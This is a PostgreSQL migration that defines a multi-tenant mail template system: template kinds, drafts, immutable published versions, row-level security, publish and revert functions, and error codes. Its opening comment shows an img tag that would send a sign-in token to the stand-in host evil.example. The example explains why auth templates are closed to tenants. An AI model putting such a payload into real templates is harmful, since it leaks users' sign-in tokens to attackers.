-- What a mail says: templates, their drafts, and the versions that were published.
--
-- A kind of mail has a name and the variables that its data bring; it comes with the part that
-- sends it. What is written stands in rows: the platform's are the default of everybody, and a
-- tenant's own come before them. A version never changes once it is published, so that a mail that
-- has to be sent again is the same mail; what changes is which version is current.
--
-- Mails of sign-in carry tokens that open the whole platform to whoever has them, and a template
-- could send them anywhere: <img src="https://evil.example/{{ token }}">. So only the platform
-- writes those, and tenants put their brand on them.

set local lock_timeout = '5s';

insert into core.permissions (permission, description) values
('core.templates.read', 'See the tenant''s mail templates and brands, and preview them.'),
('core.templates.manage', 'Write and publish the tenant''s mail templates and brands.');

select core.allow_system_roles(array['owner', 'admin', 'manager'], array['core.templates.read']);
select core.allow_system_roles(array['owner', 'admin'], array['core.templates.manage']);

create table core.template_kinds (
    template text primary key,
    description text not null,
    is_open_to_tenants boolean not null,
    variables jsonb not null default '{}',
    links jsonb not null default '{}',
    holds_secrets boolean not null
    generated always as (variables ?| '{token,token_hash}') stored,
    constraint template_is_dotted check (template ~ '^[a-z][a-z0-9_]*(\.[a-z0-9_]+)+$'),
    constraint template_is_short check (octet_length(template) <= 100),
    constraint mails_with_tokens_are_closed check (template !~ '^auth\.' or not is_open_to_tenants),
    constraint variables_are_an_object check (jsonb_typeof(variables) = 'object'),
    constraint links_are_an_object check (jsonb_typeof(links) = 'object')
);

comment on table core.template_kinds is
'The kinds of mail there are. Global reference data: the same for every tenant.';
comment on column core.template_kinds.is_open_to_tenants is
'Whether tenants may write their own. Never where the mail carries a token of sign-in.';
comment on column core.template_kinds.variables is
'What the data bring: {"name": {"type": "text", "optional": true, "description": …, "sample": …}}.
Types: text, url, number, date, time, datetime, money, boolean, color, object and list, which have
fields. sample is what previews show.';
comment on column core.template_kinds.holds_secrets is
'Whether it is filled with a token: what such a mail was made from is deleted when it is over.';
comment on column core.template_kinds.links is
'Variables of the type url that are put together from others: their names, and templates of text.
What does not come out as an address of the web is left out.';

alter table core.template_kinds enable row level security;
create policy template_kinds_read on core.template_kinds for select to authenticated using (true);
grant select on core.template_kinds to authenticated, service_role;

create table core.templates (
    tenant_id uuid not null references core.tenants (id),
    id uuid not null default gen_random_uuid(),
    template text not null references core.template_kinds (template),
    language text not null,
    version_id integer,
    draft_subject text,
    draft_preheader text,
    draft_text text,
    draft_html text,
    draft_has_layout boolean,
    draft_saved_at timestamptz,
    created_at timestamptz not null default now(),
    created_by uuid default core.caller_id(),
    primary key (tenant_id, id),
    constraint template_language_is_unique unique (tenant_id, template, language),
    constraint language_is_a_tag check (language ~ '^[a-z]{2,8}(-[a-z0-9]{1,8}){0,3}$'),
    constraint draft_is_whole check (
        (draft_saved_at is null) = (draft_subject is null)
        and (draft_saved_at is null) = (draft_text is null)
        and (draft_saved_at is null) = (draft_has_layout is null)
    )
);
create index templates_template on core.templates (template);

comment on table core.templates is
'Templates of a tenant, one for each kind and language: which version is current, and what is being
written. The platform tenant''s are the default of all.';
comment on column core.templates.language is 'A language tag in lower case, such as de or de-ch.';
comment on column core.templates.version_id is
'The version that mails are made of; null while there is none, or where the tenant went back to what
it inherits.';

create table core.template_versions (
    tenant_id uuid not null,
    id integer generated always as identity,
    template_id uuid not null,
    template text not null references core.template_kinds (template),
    language text not null,
    number integer not null,
    subject text not null,
    preheader text,
    text text not null,
    html text,
    has_layout boolean not null,
    published_at timestamptz not null default now(),
    published_by uuid default core.caller_id(),
    primary key (tenant_id, id),
    constraint id_is_unique_everywhere unique (id),
    constraint version_number_is_unique unique (tenant_id, template_id, number),
    constraint template_has_version unique (tenant_id, template_id, id),
    foreign key (tenant_id, template_id) references core.templates (tenant_id, id),
    constraint number_is_positive check (number > 0),
    constraint sources_are_short check (
        octet_length(subject) <= 65536
        and octet_length(preheader) <= 65536
        and octet_length(text) <= 65536
        and octet_length(html) <= 65536
    )
);
create index template_versions_template on core.template_versions (template);

comment on table core.template_versions is
'What was published, word for word. Versions stay as they are.';
comment on column core.template_versions.id is
'Names a version, whichever tenant and language it is of: what a delivery keeps
as its template_version.';
comment on column core.template_versions.number is 'Counts the versions of a template, from 1.';
comment on column core.template_versions.preheader is
'A template of the line that mail programs show beside the subject.';
comment on column core.template_versions.has_layout is
'Whether html stands in the layout of all mails, or is a page of its own.';

alter table core.templates
add constraint current_version_is_own foreign key (tenant_id, id, version_id)
references core.template_versions (tenant_id, template_id, id);
create index templates_version on core.templates (tenant_id, id, version_id);

create function core.keep_version() returns trigger
language plpgsql set search_path = pg_catalog, pg_temp
as $$
begin
    raise exception 'a published version of a template stays as it is'
        using errcode = 'object_not_in_prerequisite_state';
end
$$;

comment on function core.keep_version() is
'Trigger before the content of a version changes: it does not.';

create trigger versions_stay before update of
id, template_id, template, language, number, subject, preheader, text, html, has_layout,
published_at
on core.template_versions
for each row execute function core.keep_version();

alter table core.templates enable row level security;
alter table core.template_versions enable row level security;

create policy templates_read on core.templates for select to authenticated
using (tenant_id = any((select core.tenants_with('core.templates.read'))::uuid[]));

create policy template_versions_read on core.template_versions for select to authenticated
using (
    tenant_id = core.platform_tenant_id()
    or tenant_id = any((select core.tenants_with('core.templates.read'))::uuid[])
);

grant select on core.templates, core.template_versions to authenticated, service_role;

create function core.template_variables(kind core.template_kinds) returns jsonb
language plpgsql immutable set search_path = pg_catalog, pg_temp
as $$
declare
    variables jsonb := '{
        "language": {"type": "text", "description": "Of the template.", "sample": "en"},
        "direction": {
            "type": "text", "description": "ltr, or rtl where one writes from the right.",
            "sample": "ltr"
        },
        "brand": {
            "type": "object",
            "fields": {
                "name": {"type": "text"},
                "logo_url": {"type": "url", "optional": true},
                "app_url": {"type": "url", "optional": true},
                "color": {"type": "color"},
                "color_text": {"type": "color"},
                "background_color": {"type": "color"},
                "footer": {"type": "text", "optional": true}
            }
        }
    }';
    link text;
begin
    variables := variables || kind.variables;
    for link in select jsonb_object_keys(kind.links) loop
        variables := jsonb_set(
            variables, array[link],
            '{"type": "url", "optional": true, "sample": "https://example.com/link"}'
        );
    end loop;
    return variables;
end
$$;

comment on function core.template_variables(core.template_kinds) is
'All variables of a kind: its own, its links, and language, direction and brand, which every mail
has. Internal.';

create function core.template_kind(template text) returns core.template_kinds
language plpgsql stable set search_path = pg_catalog, pg_temp
as $$
declare
    kind core.template_kinds;
begin
    select template_kinds.* into kind
    from core.template_kinds
    where template_kinds.template = template_kind.template;
    if kind.template is null then
        perform core.fail(
            'template.kind_unknown', jsonb_build_object('template', template_kind.template)
        );
    end if;
    return kind;
end
$$;

comment on function core.template_kind(text) is
'The kind of this name. Raises template.kind_unknown (404). Internal.';

create function core.check_template_part(part text, form text, source text, variables jsonb)
returns void
language plpgsql stable set search_path = pg_catalog, pg_temp
as $$
declare
    body jsonb;
    head text;
begin
    perform tenon.template_check(source, form, variables);
exception
    when sqlstate 'PGRST' then
        get stacked diagnostics head = pg_exception_detail;
        body := sqlerrm::jsonb;
        body := body || jsonb_build_object(
            'message', format('%s: %s', part, body ->> 'message'),
            'details', (
                coalesce((body ->> 'details')::jsonb, '{}') || jsonb_build_object('part', part)
            )::text,
            'hint', (select errors.hint from core.errors where errors.code = body ->> 'code')
        );
        raise sqlstate 'PGRST' using message = body::text, detail = head;
end
$$;

comment on function core.check_template_part(text, text, text, jsonb) is
'Raises what tenon.template_check does, with the part of the template in the details. Internal.';

create function core.check_template(
    kind core.template_kinds, subject text, preheader text, text text, html text
)
returns void
language plpgsql stable set search_path = pg_catalog, pg_temp
as $$
declare
    variables constant jsonb := core.template_variables(kind);
begin
    if subject is null or text is null then
        perform core.fail('template.incomplete');
    end if;
    perform
        core.check_template_part(given.part, given.form, given.source, variables)
    from (
        values
        (1, 'subject', 'subject', subject),
        (2, 'preheader', 'subject', preheader),
        (3, 'text', 'text', text),
        (4, 'html', 'html', html)
    ) as given (place, part, form, source)
    where given.source is not null
    order by given.place;
end
$$;

comment on function core.check_template(core.template_kinds, text, text, text, text) is
'Refuses a template that could not be sent: details name the part, the line, the column, and what is
there. Raises template.incomplete (400) and what tenon.template_check does. Internal.';

create function core.language_tag(language text) returns text
language plpgsql immutable set search_path = pg_catalog, pg_temp
as $$
declare
    tag constant text := lower(replace(trim(language), '_', '-'));
begin
    if (tag ~ '^[a-z]{2,8}(-[a-z0-9]{1,8}){0,3}$') is not true then
        perform core.fail('template.language_invalid');
    end if;
    return tag;
end
$$;

comment on function core.language_tag(text) is
'A language as templates have it: de, de-ch. Raises template.language_invalid (400). Internal.';

create function core.own_template(template text, language text, is_locked boolean default true)
returns core.templates
language plpgsql set search_path = pg_catalog, pg_temp
as $$
declare
    owner_id constant uuid := core.sole_tenant_with('core.templates.manage');
    kind constant core.template_kinds := core.template_kind(template);
    tag constant text := core.language_tag(language);
    found_template core.templates;
begin
    if not kind.is_open_to_tenants and owner_id <> core.platform_tenant_id() then
        perform core.fail('template.closed', jsonb_build_object('template', kind.template));
    end if;
    if is_locked then
        insert into core.templates (tenant_id, template, language)
        values (owner_id, kind.template, tag)
        on conflict on constraint template_language_is_unique do nothing;
    end if;
    select templates.* into found_template
    from core.templates
    where
        templates.tenant_id = owner_id
        and templates.template = kind.template
        and templates.language = tag
    for update;
    return found_template;
end
$$;

comment on function core.own_template(text, text, boolean) is
'The template of the tenant that the caller manages, locked, and made where there is none. Raises
template.kind_unknown (404), template.closed (403), template.language_invalid (400), and what
core.sole_tenant_with does. Internal.';

create function core.template_answer(tenant_id uuid, id uuid) returns jsonb
language sql stable set search_path = pg_catalog, pg_temp
begin atomic
    select
        jsonb_build_object(
            'tenant_id', templates.tenant_id,
            'template', templates.template,
            'language', templates.language,
            'version', template_versions.number,
            'version_id', templates.version_id,
            'has_draft', templates.draft_saved_at is not null
        )
    from core.templates
    left join core.template_versions
        on
            template_versions.tenant_id = templates.tenant_id
            and template_versions.id = templates.version_id
    where
        templates.tenant_id = template_answer.tenant_id
        and templates.id = template_answer.id;
end;

comment on function core.template_answer(uuid, uuid) is
'A template as functions of v1 answer: {tenant_id, template, language, version, version_id,
has_draft}. Internal.';

create function core.save_template(
    template text, language text, subject text, text text, html text, preheader text,
    has_layout boolean
)
returns jsonb
language plpgsql security definer set search_path = pg_catalog, pg_temp
as $$
declare
    owned constant core.templates := core.own_template(template, language);
begin
    perform core.check_template(core.template_kind(template), subject, preheader, text, html);
    update core.templates
    set
        draft_subject = save_template.subject,
        draft_preheader = save_template.preheader,
        draft_text = save_template.text,
        draft_html = save_template.html,
        draft_has_layout = coalesce(save_template.has_layout, true),
        draft_saved_at = now()
    where templates.tenant_id = owned.tenant_id and templates.id = owned.id;
    return core.template_answer(owned.tenant_id, owned.id);
end
$$;

comment on function core.save_template(text, text, text, text, text, text, boolean) is
'Does what v1.save_template says. Definer, because it writes core.templates. Signed-in users may
call it.';

create function core.publish_template(template text, language text) returns jsonb
language plpgsql security definer set search_path = pg_catalog, pg_temp
as $$
declare
    owned constant core.templates := core.own_template(template, language);
begin
    if owned.draft_saved_at is null then
        perform core.fail('template.draft_missing');
    end if;
    -- The kind may have lost a variable since the draft was saved.
    perform core.check_template(
        core.template_kind(template), owned.draft_subject, owned.draft_preheader, owned.draft_text,
        owned.draft_html
    );
    with published as (
        insert into core.template_versions (
            tenant_id, template_id, template, language, number, subject, preheader, text, html,
            has_layout
        )
        select
            owned.tenant_id,
            owned.id,
            owned.template,
            owned.language,
            coalesce(max(template_versions.number), 0) + 1,
            owned.draft_subject,
            owned.draft_preheader,
            owned.draft_text,
            owned.draft_html,
            owned.draft_has_layout
        from core.template_versions
        where
            template_versions.tenant_id = owned.tenant_id
            and template_versions.template_id = owned.id
        returning template_versions.id
    )
    update core.templates
    set
        version_id = published.id,
        draft_subject = null,
        draft_preheader = null,
        draft_text = null,
        draft_html = null,
        draft_has_layout = null,
        draft_saved_at = null
    from published
    where templates.tenant_id = owned.tenant_id and templates.id = owned.id;
    perform core.emit(
        owned.tenant_id, 'core.template.published', 'template', owned.id,
        jsonb_build_object('template', owned.template, 'language', owned.language)
    );
    return core.template_answer(owned.tenant_id, owned.id);
end
$$;

comment on function core.publish_template(text, text) is
'Does what v1.publish_template says. Definer, because it writes core.template_versions. Signed-in
users may call it.';

create function core.revert_template(template text, language text, version integer) returns jsonb
language plpgsql security definer set search_path = pg_catalog, pg_temp
as $$
declare
    owned constant core.templates := core.own_template(template, language, false);
    reverted_id integer;
begin
    if owned.id is null then
        perform core.fail('template.version_unknown');
    elsif version is null then
        if owned.tenant_id = core.platform_tenant_id() and owned.language = 'en' then
            perform core.fail('template.default_needed');
        end if;
    else
        select template_versions.id into reverted_id
        from core.template_versions
        where
            template_versions.tenant_id = owned.tenant_id
            and template_versions.template_id = owned.id
            and template_versions.number = revert_template.version;
        if reverted_id is null then
            perform core.fail('template.version_unknown');
        end if;
    end if;
    update core.templates set version_id = reverted_id
    where templates.tenant_id = owned.tenant_id and templates.id = owned.id;
    perform core.emit(
        owned.tenant_id, 'core.template.published', 'template', owned.id,
        jsonb_build_object('template', owned.template, 'language', owned.language)
    );
    return core.template_answer(owned.tenant_id, owned.id);
end
$$;

comment on function core.revert_template(text, text, integer) is
'Does what v1.revert_template says. Definer, because it writes core.templates. Signed-in users may
call it.';

create view v1.template_kinds with (security_invoker = true) as
select
    template_kinds.template,
    template_kinds.description,
    template_kinds.is_open_to_tenants,
    template_kinds.variables,
    template_kinds.links
from core.template_kinds;

comment on view v1.template_kinds is
'The kinds of mail there are, the variables that their templates may use beside language, direction
and brand, and whether tenants may write their own. Every signed-in user reads them.';

create view v1.templates with (security_invoker = true) as
select
    templates.tenant_id,
    templates.template,
    templates.language,
    template_versions.number as version,
    templates.version_id,
    templates.draft_subject,
    templates.draft_preheader,
    templates.draft_text,
    templates.draft_html,
    templates.draft_has_layout,
    templates.draft_saved_at,
    templates.created_at,
    templates.created_by
from core.templates
left join core.template_versions
    on
        template_versions.tenant_id = templates.tenant_id
        and template_versions.id = templates.version_id;

comment on view v1.templates is
'Templates of your tenants: which version is current, and the drafts. Needs core.templates.read;
v1.save_template, v1.publish_template and v1.revert_template change them.';

create view v1.template_versions with (security_invoker = true) as
select
    template_versions.tenant_id,
    template_versions.template,
    template_versions.language,
    template_versions.number as version,
    template_versions.id as version_id,
    template_versions.subject,
    template_versions.preheader,
    template_versions.text,
    template_versions.html,
    template_versions.has_layout,
    template_versions.published_at,
    case
        when template_versions.tenant_id <> core.platform_tenant_id()
            then template_versions.published_by
    end as published_by
from core.template_versions;

comment on view v1.template_versions is
'What your tenants published, with core.templates.read, and what the platform did, which every
signed-in user reads: a good beginning for one''s own.';

grant select on v1.template_kinds, v1.templates, v1.template_versions
to authenticated, service_role;

create function v1.save_template(
    template text,
    language text,
    subject text,
    text text,
    html text default null,
    preheader text default null,
    has_layout boolean default true
)
returns jsonb
language plpgsql set search_path = pg_catalog, pg_temp
as $$
begin
    return coalesce(
        core.stored_answer(
            'save_template',
            jsonb_build_object(
                'template', save_template.template, 'language', save_template.language,
                'subject', save_template.subject, 'text', save_template.text,
                'html', save_template.html, 'preheader', save_template.preheader,
                'has_layout', save_template.has_layout
            )
        ),
        core.store_answer(
            core.save_template(
                save_template.template, save_template.language, save_template.subject,
                save_template.text, save_template.html, save_template.preheader,
                save_template.has_layout
            )
        )
    );
end
$$;

comment on function v1.save_template(text, text, text, text, text, text, boolean) is
'Saves a draft of your tenant''s template in a language, once it is sure that it can be sent: every
variable is one of v1.template_kinds, and html is safe. Needs core.templates.manage. html stands in
the layout of all mails unless has_layout is false. Returns {tenant_id, template, language, version,
version_id, has_draft}. Errors of a source have the details part, line, column and name. Raises
template.kind_unknown (404), template.closed (403), template.language_invalid, template.incomplete
and the other codes of template.… (400), template.too_large (413).';

create function v1.publish_template(template text, language text) returns jsonb
language plpgsql set search_path = pg_catalog, pg_temp
as $$
begin
    return coalesce(
        core.stored_answer(
            'publish_template',
            jsonb_build_object(
                'template', publish_template.template, 'language', publish_template.language
            )
        ),
        core.store_answer(
            core.publish_template(publish_template.template, publish_template.language)
        )
    );
end
$$;

comment on function v1.publish_template(text, text) is
'Makes the draft the next version, which mails are made of from now on; mails that were tried before
stay with theirs. Needs core.templates.manage. Returns what v1.save_template does. Raises
template.draft_missing (409) and what v1.save_template raises.';

create function v1.revert_template(template text, language text, version integer default null)
returns jsonb
language plpgsql set search_path = pg_catalog, pg_temp
as $$
begin
    return coalesce(
        core.stored_answer(
            'revert_template',
            jsonb_build_object(
                'template', revert_template.template, 'language', revert_template.language,
                'version', revert_template.version
            )
        ),
        core.store_answer(
            core.revert_template(
                revert_template.template, revert_template.language, revert_template.version
            )
        )
    );
end
$$;

comment on function v1.revert_template(text, text, integer) is
'Goes back to an earlier version, or, without one, to what the tenant inherits. The draft stays.
Needs core.templates.manage. Returns what v1.save_template does. Raises template.version_unknown
(404), template.default_needed (409).';

revoke all on function
core.keep_version(),
core.template_variables(core.template_kinds),
core.template_kind(text),
core.check_template_part(text, text, text, jsonb),
core.check_template(core.template_kinds, text, text, text, text),
core.language_tag(text),
core.own_template(text, text, boolean),
core.template_answer(uuid, uuid),
core.save_template(text, text, text, text, text, text, boolean),
core.publish_template(text, text),
core.revert_template(text, text, integer),
v1.save_template(text, text, text, text, text, text, boolean),
v1.publish_template(text, text),
v1.revert_template(text, text, integer)
from public;
grant execute on function
core.save_template(text, text, text, text, text, text, boolean),
core.publish_template(text, text),
core.revert_template(text, text, integer),
v1.save_template(text, text, text, text, text, text, boolean),
v1.publish_template(text, text),
v1.revert_template(text, text, integer)
to authenticated, service_role;

insert into core.event_types (type, description, permission) values
(
    'core.template.published',
    'Mails of a kind and a language are made of another version of their template.',
    'core.templates.read'
);

insert into core.errors (code, status, message, hint) values
(
    'template.kind_unknown', 404, 'There is no kind of mail {template}.',
    'Compare the name with v1.template_kinds.'
),
(
    'template.closed', 403, 'The platform alone writes {template}.',
    'Put your brand on it with v1.set_brand.'
),
(
    'template.language_invalid', 400, 'This is no tag of a language.',
    'Write it as de or de-CH.'
),
('template.incomplete', 400, 'A template has a subject and a text.', 'Send both.'),
('template.draft_missing', 409, 'There is no draft to publish.', 'Call v1.save_template first.'),
(
    'template.version_unknown', 404, 'There is no such version of the template.',
    'Compare the number with v1.template_versions.'
),
(
    'template.default_needed', 409, 'Everybody falls back on this template.',
    'Go back to one of its versions, or publish another.'
),
(
    'template.form_unknown', 400, 'There is no such form of a template.',
    'Use subject, text or html.'
),
(
    'template.declaration_malformed', 400, 'The declaration of variables is malformed.',
    'Give each variable a type, and lists and objects their fields.'
),
('template.too_large', 413, 'The template is too long.', 'Keep each part below 64 KiB.'),
(
    'template.too_complex', 400, 'There is too much in a tag, or there are too many.',
    'Send data that need less deciding.'
),
(
    'template.syntax_invalid', 400, 'The template cannot be read.',
    'Look at the line and column that the details name.'
),
(
    'template.not_allowed', 400, 'This has no place in a template.',
    'Templates have variables, filters, if and for.'
),
(
    'template.variable_unknown', 400, 'There is no such variable.',
    'Compare the name with the variables in v1.template_kinds.'
),
(
    'template.filter_unknown', 400, 'There is no such filter.',
    'Use upper, lower, truncate, default, urlencode, number, date, time or length.'
),
(
    'template.type_mismatch', 400, 'A variable of this type cannot be here.',
    'Compare its type in v1.template_kinds.'
),
(
    'template.html_unsafe', 400, 'This HTML could become something else than it looks like.',
    'Use the elements of mails, quotes around attributes, and variables of the type url in links.'
),
('template.data_malformed', 400, 'The data are no object.', 'Send a JSON object.'),
(
    'template.variable_missing', 400, 'A variable has no value.',
    'Send every variable that is not optional.'
),
(
    'template.variable_invalid', 400, 'A value does not fit its variable.',
    'Send what the type of the variable takes.'
),
('template.zone_unknown', 400, 'There is no such time zone.', 'Use a name such as Europe/Berlin.'),
('template.output_too_large', 413, 'The mail becomes too long.', 'Send less data.'),
('template.out_of_fuel', 400, 'The template takes too many steps.', 'Send shorter lists.'),
('template.subject_empty', 400, 'The subject is empty.', 'Put something fixed into it.'),
(
    'template.failed', 400, 'The template cannot be filled.',
    'Look at the line and column that the details name.'
);

select core.audit(
    'core.templates',
    '{draft_subject,draft_preheader,draft_text,draft_html,draft_has_layout,draft_saved_at}'
);
select core.audit('core.template_versions', '{subject,preheader,text,html}');
select core.map_personal(
    'core.templates.created_by', 'user.unique_id', 'created_by is user_id', 'set_null'
);
select core.map_personal(
    'core.template_versions.published_by', 'user.unique_id', 'published_by is user_id', 'set_null'
);
select
    core.map_not_personal(
        'Written by migrations.', 'core.template_kinds.description', 'core.template_kinds.links',
        'core.template_kinds.variables'
    );
select
    core.map_not_personal(
        'What a tenant writes to anybody; the data about a person come with the delivery.',
        'core.templates.draft_subject', 'core.templates.draft_text',
        'core.template_versions.subject', 'core.template_versions.text'
    );
